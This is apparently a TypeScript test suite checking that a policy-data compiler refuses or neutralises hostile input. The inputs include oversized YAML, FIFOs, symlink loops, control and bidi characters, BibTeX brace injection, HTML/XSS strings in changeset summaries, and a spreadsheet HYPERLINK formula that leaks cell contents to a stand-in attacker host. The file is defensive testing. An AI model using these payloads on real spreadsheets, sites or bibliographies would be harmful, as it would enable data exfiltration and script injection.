/**
 * Hostile input (issue 24): every probe of the issue kept as a regression test. A pull request
 * carries YAML, changesets and URLs; none of it may stall the compiler, crash the build, reach a
 * spreadsheet as a formula or BibTeX as a new field. Each probe asserts the one line it gets
 * (`file:line:col  rule  message`) and that nothing was written.
 */
import { execFileSync } from 'node:child_process';
import { readdirSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { buildProblem } from '../scripts/contributor.js';
import { checkChangeset, htmlIn } from '../scripts/release/changesets.js';
import { citeReport } from '../src/cite/bibliography.js';
import { type CompiledFolder, compileFolder, formatFileIssue } from '../src/compile/compile-folder.js';
import { MAX_FILE_BYTES, MAX_ISSUES_PER_FILE, MAX_STRING_LENGTH } from '../src/compile/input-limits.js';
import { bibText, bibUrl } from '../src/escape/bibtex.js';
import { neutraliseCell } from '../src/escape/csv-cell.js';
import { terminalText } from '../src/escape/terminal-text.js';
import { collectionNames } from '../src/registry/collections.js';
import { collectionSchemas, type Dataset, Meta, type ReportSource } from '../src/schema/index.js';
import { MAX_ID_LENGTH, unsafeCharacter } from '../src/schema/text.js';
import { SearchIndex } from '../src/search/search.js';
import { toCSV, toTables } from '../src/tables/flat-tables.js';
import { goodDataFolder, goodDataset } from './helpers.js';

const ACTOR = 'china';
const actorFile = (dir: string) => join(dir, 'actors', `${ACTOR}.yaml`);
const edit = (file: string, from: RegExp, to: string) => {
  const text = readFileSync(file, 'utf8');
  expect(text).toMatch(from);
  writeFileSync(
    file,
    text.replace(from, () => to),
  );
};

/** Every file under a folder with its size and modification time: what "nothing was written" compares. */
function snapshot(dir: string): string[] {
  const walk = (d: string): string[] =>
    readdirSync(d, { withFileTypes: true }).flatMap((e) => {
      const path = join(d, e.name);
      if (e.isSymbolicLink() || e.isFIFO()) return [path];
      if (e.isDirectory()) return walk(path);
      const s = statSync(path);
      return [`${path} ${s.size} ${s.mtimeMs}`];
    });
  return walk(dir).sort();
}

/** Compiles a hostile copy of the data, timing it, and checks that the compile wrote nothing. */
function compileHostile(change: (dir: string) => void): {
  result: CompiledFolder;
  lines: string[];
  ms: number;
} {
  const dir = goodDataFolder();
  change(dir);
  const before = snapshot(dirname(dir));
  const started = performance.now();
  const result = compileFolder(dir);
  const ms = performance.now() - started;
  expect(snapshot(dirname(dir)), 'the compiler wrote nothing').toEqual(before);
  const lines = result.issues.map((issue) =>
    formatFileIssue({ ...issue, file: issue.file.slice(dir.length + 1) }),
  );
  rmSync(dirname(dir), { recursive: true, force: true });
  return { result, lines, ms };
}

let baseline: number | undefined;
/**
 * What "within seconds" allows on this machine: three times a compile of the untouched folder, plus
 * three seconds. The machine may be shared (a load of 16 on 2 cores), so a fixed bound would only
 * measure the neighbours; before the limits, these probes took minutes, far past any such bound.
 */
function withinSeconds(): number {
  baseline ??= compileHostile(() => undefined).ms;
  return baseline * 3 + 3_000;
}

const oneLine = (lines: readonly string[]) => {
  for (const line of lines) expect(line).not.toMatch(/\n/);
};

describe('limits before parsing', () => {
  it('refuses 5,000,000 keys (58 MB) by the file size, within seconds', () => {
    const { lines, ms, result } = compileHostile((dir) => {
      const keys: string[] = [];
      for (let i = 0; i < 5_000_000; i++) keys.push(`k${i}: v\n`);
      writeFileSync(actorFile(dir), keys.join(''));
    });
    expect(lines).toContainEqual(
      expect.stringMatching(
        /^actors\/china\.yaml:1:1 {2}input-limit {2}the file is [\d,]+ bytes; a data file is at most 1,000,000 bytes$/,
      ),
    );
    expect(result.dataset).toBeUndefined();
    expect(ms).toBeLessThan(withinSeconds());
  }, 120_000);

  it('refuses a 50 MB string field by the file size, within seconds', () => {
    const { lines, ms } = compileHostile((dir) =>
      edit(actorFile(dir), /^name: .*$/m, `name: ${'a'.repeat(50 * 1024 * 1024)}`),
    );
    expect(lines.filter((l) => l.startsWith('actors/china.yaml'))).toEqual([
      expect.stringMatching(/^actors\/china\.yaml:1:1 {2}input-limit {2}the file is 52,4\d\d,\d+ bytes/),
    ]);
    expect(ms).toBeLessThan(withinSeconds());
  }, 120_000);

  it('refuses a string past the length limit at its line and column', () => {
    const { lines } = compileHostile((dir) =>
      edit(actorFile(dir), /^shortName: .*$/m, `shortName: ${'a'.repeat(MAX_STRING_LENGTH + 1)}`),
    );
    expect(lines).toContain(
      `actors/china.yaml:3:12  input-limit  a string of 10,001 characters; a string is at most 10,000`,
    );
  });

  it('reads 50,000 keys (under the size limit) in linear time and reports at most 20 problems a file', () => {
    const { lines, ms } = compileHostile((dir) => {
      let extra = '';
      for (let i = 0; i < 50_000; i++) extra += `k${i}: v\n`;
      writeFileSync(actorFile(dir), readFileSync(actorFile(dir), 'utf8') + extra);
    });
    const mine = lines.filter((l) => l.startsWith('actors/china.yaml'));
    expect(mine.length).toBeLessThanOrEqual(MAX_ISSUES_PER_FILE + 1);
    expect(mine.join('\n')).toMatch(/unknown-field/);
    oneLine(mine);
    // The yaml library's own unique-key check took 125 s here; one set per mapping takes well under one.
    expect(ms).toBeLessThan(withinSeconds());
  }, 120_000);

  it('caps the problems of one file with a last line saying how many more there are', () => {
    const { lines } = compileHostile((dir) =>
      edit(actorFile(dir), /^aliases:\n(?: {2}- .*\n)*/m, `aliases:\n${'  - "a\\tb"\n'.repeat(30)}`),
    );
    const mine = lines.filter((l) => l.startsWith('actors/china.yaml'));
    expect(mine).toHaveLength(MAX_ISSUES_PER_FILE + 1);
    expect(mine.slice(0, -1).every((l) => /schema {2}aliases\[\d+\]: text holds U\+0009/.test(l))).toBe(true);
    expect(mine.at(-1)).toBe(
      'actors/china.yaml:1:1  input-limit  10 more problem(s) in this file not shown; at most 20 are reported per file',
    );
  });

  it('finds a repeated key, and says which, at the repeat', () => {
    const { lines } = compileHostile((dir) =>
      writeFileSync(actorFile(dir), `${readFileSync(actorFile(dir), 'utf8')}kind: state\n`),
    );
    expect(lines).toContainEqual(
      expect.stringMatching(
        /^actors\/china\.yaml:\d+:1 {2}yaml-syntax {2}Map keys must be unique; "kind" is repeated$/,
      ),
    );
  });

  it('reports an unknown tag (!!js/function) instead of dropping it', () => {
    const { lines } = compileHostile((dir) =>
      edit(actorFile(dir), /^name: .*$/m, 'name: !!js/function "function () {}"'),
    );
    expect(lines).toContainEqual(expect.stringMatching(/^actors\/china\.yaml:2:7 {2}yaml-syntax {2}.*tag/i));
  });

  it('states its limits in CONTRIBUTING.md', () => {
    const contributing = readFileSync(join(__dirname, '..', '..', '..', 'CONTRIBUTING.md'), 'utf8');
    expect(contributing).toContain(`${MAX_FILE_BYTES.toLocaleString('en-US')} bytes`);
    expect(contributing).toContain(`${MAX_STRING_LENGTH.toLocaleString('en-US')} characters`);
    expect(contributing).toContain(`${MAX_ISSUES_PER_FILE} problems`);
    expect(contributing).toContain(`${MAX_ID_LENGTH} characters`);
  });
});

describe('files that are not data files', () => {
  it('refuses a FIFO named *.yaml without opening it', () => {
    const { lines } = compileHostile((dir) => execFileSync('mkfifo', [join(dir, 'actors', 'zz-pipe.yaml')]));
    expect(lines).toContain(
      'actors/zz-pipe.yaml:1:1  read  a named pipe (FIFO), not a data file; data files are plain files',
    );
  });

  it('refuses a device linked in as a data file', () => {
    const { lines } = compileHostile((dir) => symlinkSync('/dev/zero', join(dir, 'actors', 'zz-zero.yaml')));
    expect(lines).toContain(
      'actors/zz-zero.yaml:1:1  read  a symbolic link to a place outside the data folder; data files live in it',
    );
  });

  it('refuses a symbolic link out of the data folder, and follows one inside it', () => {
    const { lines } = compileHostile((dir) => {
      const outside = join(dirname(dir), 'outside.yaml');
      writeFileSync(outside, readFileSync(actorFile(dir)));
      rmSync(actorFile(dir));
      symlinkSync(outside, actorFile(dir));
    });
    expect(lines).toContain(
      'actors/china.yaml:1:1  read  a symbolic link to a place outside the data folder; data files live in it',
    );
    const inside = compileHostile((dir) => {
      const kept = join(dir, 'actors', '.china.yaml');
      writeFileSync(kept, readFileSync(actorFile(dir)));
      rmSync(actorFile(dir));
      symlinkSync(kept, actorFile(dir));
    });
    expect(inside.lines).toEqual([]);
  });

  it('refuses a collection folder that is a link loop under the read rule', () => {
    const { lines } = compileHostile((dir) => {
      rmSync(join(dir, 'topics'), { recursive: true });
      symlinkSync(join(dir, 'topics'), join(dir, 'topics'));
    });
    // One problem: the records that name a topic are not each told that it is missing.
    expect(lines).toEqual(['topics:1:1  read  cannot be read: a loop of symbolic links (ELOOP)']);
  });

  it('refuses a byte that is not UTF-8 at its line and column', () => {
    const { lines } = compileHostile((dir) => {
      const bytes = readFileSync(actorFile(dir));
      const at = bytes.indexOf('name: ') + 9;
      writeFileSync(
        actorFile(dir),
        Buffer.concat([bytes.subarray(0, at), Buffer.from([0xff]), bytes.subarray(at)]),
      );
    });
    expect(lines).toContain(
      'actors/china.yaml:2:10  read  the file is not UTF-8: a byte here is not UTF-8 text',
    );
  });
});

describe('one truth for text', () => {
  const cases: [string, string, RegExp][] = [
    ['a tab', '\\t', /U\+0009 \(a tab\)/],
    ['a vertical tab', '\\v', /U\+000B \(a vertical tab\)/],
    ['a form feed', '\\f', /U\+000C \(a form feed\)/],
    ['a byte order mark', '\\uFEFF', /U\+FEFF \(a byte order mark\)/],
    ['a NUL', '\\0', /U\+0000 \(a NUL\)/],
    ['a right-to-left override', '\\u202E', /U\+202E \(a right-to-left override\)/],
    ['U+FFFD', '\\uFFFD', /U\+FFFD, what a byte that is not UTF-8 becomes/],
    ['an escape', '\\e]0;title\\a', /U\+001B \(an escape \(ESC\)\)/],
    ['a line break in a name', '\\n', /U\+000A \(a line break\)/],
  ];
  it.each(cases)('refuses %s in a name at its line', (_, escaped, message) => {
    const { lines } = compileHostile((dir) => edit(actorFile(dir), /^name: .*$/m, `name: "Chi${escaped}na"`));
    expect(lines).toEqual([expect.stringMatching(/^actors\/china\.yaml:2:1 {2}schema {2}name: text holds /)]);
    expect(lines[0]).toMatch(message);
  });

  it('refuses a tab in prose, and lets a line break stand there', () => {
    const tab = compileHostile((dir) =>
      edit(actorFile(dir), /^description: .*$/m, 'description: "A state\\tthat the essay names."'),
    );
    expect(tab.lines).toEqual([
      expect.stringMatching(/^actors\/china\.yaml:10:1 {2}schema {2}description: text holds U\+0009/),
    ]);
    const newline = compileHostile((dir) =>
      edit(actorFile(dir), /^description: .*$/m, 'description: "A state\\nthat the essay names."'),
    );
    expect(newline.lines).toEqual([]);
  });

  it(`refuses an id longer than ${MAX_ID_LENGTH} characters (249 passed, then failed the site build)`, () => {
    const id = 'a'.repeat(249);
    const { lines } = compileHostile((dir) => {
      const text = readFileSync(actorFile(dir), 'utf8').replace(/^id: .*$/m, `id: ${id}`);
      rmSync(actorFile(dir));
      writeFileSync(join(dir, 'actors', `${id}.yaml`), text);
    });
    expect(lines).toContainEqual(
      `actors/${id}.yaml:1:1  schema  id: an id is at most ${MAX_ID_LENGTH} characters (it names files)`,
    );
  });

  it('refuses javascript: in meta.homepage and meta.repository (https-url covers every address)', () => {
    const { lines } = compileHostile((dir) => {
      const meta = join(dir, 'meta.yaml');
      const text = readFileSync(meta, 'utf8').replace(/^(homepage|repository): .*\n/gm, '');
      writeFileSync(meta, `${text}homepage: "javascript:alert(1)"\nrepository: "http://example.org/x"\n`);
    });
    expect(lines).toEqual([
      expect.stringMatching(
        /^meta\.yaml:\d+:1 {2}https-url {2}javascript:alert\(1\) is not an absolute https address$/,
      ),
      expect.stringMatching(
        /^meta\.yaml:\d+:1 {2}https-url {2}http:\/\/example\.org\/x is not an absolute https address$/,
      ),
    ]);
  });

  it('the data as it is holds no character the rule refuses (the rule is not stricter than the data)', () => {
    const { lines } = compileHostile(() => undefined);
    expect(lines).toEqual([]);
  });

  it('check builds the search index as the build does, and names what fails', () => {
    expect(buildProblem(goodDataset())).toBeUndefined();
    const broken = { ...goodDataset(), actors: null } as unknown as Dataset;
    expect(buildProblem(broken)).toMatch(/^the build would fail: the search index cannot be built: /);
  });
});

describe('outputs safe for their readers', () => {
  it('neutralises a name a spreadsheet would evaluate in the CSV tables', () => {
    const data = goodDataset();
    data.actors[0] = { ...data.actors[0], name: '=HYPERLINK("https://evil.example/?"&A1,"x")' } as never;
    const csv = toCSV(toTables(data).find((t) => t.name === 'actors') ?? { columns: [], rows: [] });
    const row = csv.split('\r\n')[1] ?? '';
    expect(row).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""x"")"`);
    for (const start of ['=', '+', '-', '@', '\t', '\r'])
      expect(neutraliseCell(`${start}1+1`)).toBe(`'${start}1+1`);
    expect(neutraliseCell('Pakistan')).toBe('Pakistan');
  });

  it('keeps a } in a report URL inside the BibTeX url field', () => {
    const report = {
      id: 'probe',
      kind: 'report',
      title: 'A } title {',
      publisher: 'P',
      url: 'https://x.example/a},note={injected',
      accessed: '2024-01-02',
      language: 'en',
    } as ReportSource;
    const entry = citeReport(report, 'bibtex');
    expect(entry).toContain('url          = {https://x.example/a%7D,note=%7Binjected}');
    expect(entry).toContain('{A \\textbraceright{} title \\textbraceleft{}}');
    expect(entry).not.toMatch(/^\s*note\s*=\s*\{injected/m);
  });

  it('the package README and the schema say how CSV cells are neutralised', () => {
    const readme = readFileSync(join(__dirname, '..', 'README.md'), 'utf8');
    expect(readme).toMatch(/formula/i);
    expect(readme).toContain("leading `'`");
  });
});

describe('changeset summaries', () => {
  const workspace = { names: ['@policy/pakistan-2024'], ignored: [] };
  const changeset = (summary: string) => `---\n"@policy/pakistan-2024": patch\n---\n\n${summary}\n`;
  it.each([
    '<img src=x onerror="alert(document.domain)">',
    'text <details open ontoggle=alert(1)>',
    '<script data-x=\'type="application/ld+json"\'>alert(1)</script>',
    '<!-- a comment -->',
  ])('refuses HTML: %s', (summary) => {
    const problems = checkChangeset('.changeset/x.md', changeset(summary), workspace);
    expect(problems).toEqual([
      expect.objectContaining({
        line: 5,
        rule: 'changeset-summary',
        message: expect.stringMatching(/holds HTML/),
      }),
    ]);
  });
  it('lets Markdown, autolinks and code spans with angle brackets stand', () => {
    for (const summary of ['Fix the `<script>` handling', 'See <https://example.org/x>', 'a < b and c > d'])
      expect(checkChangeset('.changeset/x.md', changeset(summary), workspace), summary).toEqual([]);
    expect(htmlIn('a <b>bold</b> word')).toBe('<b');
  });
});

// Hostile strings: controls, bidi, formula starts, braces, HTML, and any code point at all.
const hostile = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc
    .array(
      fc.constantFrom(
        '\t',
        '\v',
        '\f',
        '\r',
        '\n',
        '\0',
        '\x1b]0;x\x07',
        '\x1b[2J',
        '\x85',
        '\u202e',
        '\u2066',
        '\ufeff',
        '\ufffd',
        '\u200b',
        '=',
        '+',
        '-',
        '@',
        '}',
        '{',
        '\\',
        '<img src=x onerror=alert(1)>',
        'javascript:',
        ' ',
        'a',
        'Pakistan',
      ),
      { minLength: 1, maxLength: 8 },
    )
    .map((parts) => parts.join('')),
);

/** Every path to a string in a record, but ids and values of a vocabulary (those have their own rules). */
function textPaths(value: unknown, path: (string | number)[] = []): (string | number)[][] {
  if (typeof value === 'string') return [path];
  if (Array.isArray(value)) return value.flatMap((v, i) => textPaths(v, [...path, i]));
  if (value && typeof value === 'object')
    return Object.entries(value).flatMap(([k, v]) => textPaths(v, [...path, k]));
  return [];
}

function setAt(record: unknown, path: readonly (string | number)[], text: string): unknown {
  const copy = structuredClone(record) as Record<string | number, unknown>;
  let node = copy;
  for (const key of path.slice(0, -1)) node = node[key] as Record<string | number, unknown>;
  node[path.at(-1) as string | number] = text;
  return copy;
}

describe('hostile strings in every text field (fast-check)', () => {
  const data = goodDataset();
  const fields = [
    ...collectionNames.flatMap((name) => {
      const record = data[name][0];
      return textPaths(record).map((path) => ({ name, schema: collectionSchemas[name], record, path }));
    }),
    ...textPaths(data.meta).map((path) => ({ name: 'meta', schema: Meta, record: data.meta, path })),
  ];

  it('covers every collection and meta', () => {
    expect(new Set(fields.map((f) => f.name))).toEqual(new Set([...collectionNames, 'meta']));
  });

  it('refuses every string with a character the text rule names; what passes is safe on every surface', () => {
    fc.assert(
      fc.property(fc.constantFrom(...fields), hostile, ({ schema, record, path }, text) => {
        const parsed = schema.safeParse(setAt(record, path, text));
        if (unsafeCharacter(text, { multiline: true }))
          expect(parsed.success, JSON.stringify(text)).toBe(false);
        // Whatever the schema let through, each output escapes it.
        // biome-ignore lint/suspicious/noControlCharactersInRegex: the controls are what must be gone
        expect(terminalText(text)).not.toMatch(/[\0-\x08\v\f\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/);
        expect(neutraliseCell(text)).not.toMatch(/^[=+\-@\t\r]/);
        const braced = bibText(text);
        let depth = 0;
        for (const c of braced) {
          depth += c === '{' ? 1 : c === '}' ? -1 : 0;
          expect(depth).toBeGreaterThanOrEqual(0);
        }
        expect(depth).toBe(0);
        expect(bibUrl(text)).not.toMatch(/[{}\\\s]/);
      }),
      { numRuns: Number(process.env.POLICY_FUZZ_RUNS ?? 500) },
    );
  });

  it('a record the schema accepts builds into the search index (check cannot pass what the build refuses)', () => {
    fc.assert(
      fc.property(fc.constantFrom(...fields.filter((f) => f.name !== 'meta')), hostile, (field, text) => {
        const changed = setAt(field.record, field.path, text);
        if (!field.schema.safeParse(changed).success) return;
        const small = Object.fromEntries(
          collectionNames.map((c) => [c, [] as unknown[]]),
        ) as unknown as Dataset;
        (small[field.name as keyof Dataset] as unknown as unknown[]).push(changed);
        // Whatever the build's index makes of it, check says the same: a throw is a problem check reports.
        let threw = false;
        try {
          new SearchIndex(small).serialize();
        } catch {
          threw = true;
        }
        expect(buildProblem(small) !== undefined, JSON.stringify(text)).toBe(threw);
      }),
      { numRuns: Number(process.env.POLICY_FUZZ_RUNS ?? 200) },
    );
  });
});

describe('terminal text', () => {
  it('removes OSC, CSI and C1 sequences whole and lone controls, keeps colour only when asked', () => {
    const text = 'a\x1b]0;title\x07b\x1b[2Jc\x9b31md\x1b[1me\x1b[22m\u202ef\r\ng\rh\ti\x00';
    expect(terminalText(text)).toBe('abcdef\r\ngh\ti');
    expect(terminalText(text, { keepColour: true })).toBe('abcd\x1b[1me\x1b[22mf\r\ngh\ti');
  });
});
